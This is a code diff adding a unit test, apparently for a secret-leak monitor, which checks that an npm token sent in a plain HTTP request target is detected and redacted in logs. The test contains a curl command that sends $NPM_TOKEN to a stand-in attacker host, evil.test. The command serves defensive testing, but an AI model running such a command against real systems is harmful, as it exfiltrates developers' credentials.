@@ -303,6 +303,19 @@ class Secrets(RwTestCase):
         self.assertEqual(ev[0]["address"], f"{SRV}:{HTTP_PORT}")
         self.assertNowhere(run, NPM_TOKEN)
 
+    def test_token_in_a_plain_request_target_is_never_written(self):
+        """Observe: a plain GET with the secret in its target (the `conn_name` line records the
+        target) reaches the server, and is recorded with the tag in the secret's place."""
+        run = self.job('curl -sS -m 10 -o /dev/null "http://evil.test:8080/q?t=$NPM_TOKEN"; '
+                       'echo curl=$?', mode="observe")
+        self.assertIn("curl=0", run.stdout, run.stderr)
+        self.assertTrue(self.srv.got(NPM_TOKEN))
+        names = [e for e in run.of("conn_name") if e.get("path", "").startswith("/q?t=")]
+        self.assertTrue(names, run.events)
+        self.assertIn("[redacted:", names[0]["path"])
+        self.assertEqual(len(self.leaks(run, channel="plain_tcp")), 1, run.events)
+        self.assertNowhere(run, NPM_TOKEN)
+
     def test_token_in_dns_name_refused_at_the_gate(self):
         label = NPM_TOKEN.lower()
         log = os.path.join(self.tmp, "dns.log")
